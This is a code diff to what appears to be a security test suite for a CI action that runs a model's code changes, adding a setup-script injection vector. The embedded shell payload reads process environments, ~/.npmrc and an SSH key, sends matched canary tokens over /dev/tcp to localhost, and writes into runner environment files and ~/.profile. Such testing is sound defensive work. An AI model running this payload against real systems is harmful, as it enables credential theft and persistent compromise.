@@ -53,19 +53,21 @@ const vectors: readonly Vector[] = [
   vector('C4', 'a module of Python that stands before the machine’s', (act) => ({
     'pytest.py': `${python(act)}try:\n    import conftest\nexcept ImportError:\n    pass\n`,
   })),
+  vector('C4', 'what the setup command runs of the change', (act) => ({ 'setup.sh': `${act}\n` })),
   ...(has('make') ? [vector('C4', 'a Makefile', (act) => ({ Makefile: `check:\n\t@${act}\n` }))] : []),
 ];
 
 /** All that tests run, whatever of it the change brings. */
 const testCommand =
-  'npm test; make -s check; PATH=/usr/bin:$PATH python3 -m pytest; node --test; echo "tried:" $(cat tried); false';
+  'npm test; make -s check; PATH=/usr/bin:$PATH python3 -m pytest; node --test; echo "tried:" $(cat tried-*); false';
 
 /**
  * What each does: it gathers secrets from the environments of processes and from the home directory, shows them,
  * sends them away, and writes to the runner's files and to a program of the home directory.
  */
 const act = `id=$1
-echo $id >> tried
+echo $id >> tried-$id
+found=$(mktemp)
 {
   env
   p=$PPID
@@ -75,11 +77,11 @@ echo $id >> tried
     p=$(awk '/^PPid/{print $2}' /proc/$p/status)
   done
   cat HOME/.npmrc HOME/.ssh/id_ed25519 TEMP/a1b2c3.sh
-} 2>/dev/null | grep -o 'CANARY[0-9a-f]*' | sort -u > found
-for word in $id $(cat found); do (exec 3<>/dev/tcp/127.0.0.1/PORT && echo "$id: $word" >&3); done 2>/dev/null
+} 2>/dev/null | grep -o 'CANARY[0-9a-f]*' | sort -u > $found
+for word in $id $(cat $found); do (exec 3<>/dev/tcp/127.0.0.1/PORT && echo "$id: $word" >&3); done 2>/dev/null
 for f in TEMP/_runner_file_commands/set_env_*; do case $f in *planted|*'*') ;; *) echo "$id=1" >> $f;; esac; done
 echo "$id" >> HOME/.profile
-cat found
+cat $found
 `;
 
 /** One run, whose tests fail in the end so that their output is read. */
@@ -104,7 +106,11 @@ export const execution: Group = {
     scene.model.add({ forever: { status: 400 }, times: Infinity });
     const result = await scene.run('fix', {
       ...machine.more,
-      inputs: { 'max-attempts': '1', 'test-command': testCommand },
+      inputs: {
+        'max-attempts': '1',
+        'test-command': testCommand,
+        'setup-command': '[ ! -e setup.sh ] || bash setup.sh',
+      },
     });
     const shown = scene.model.requests[0]?.raw ?? '';
     const ran = /tried: ([\w ]+)/g;
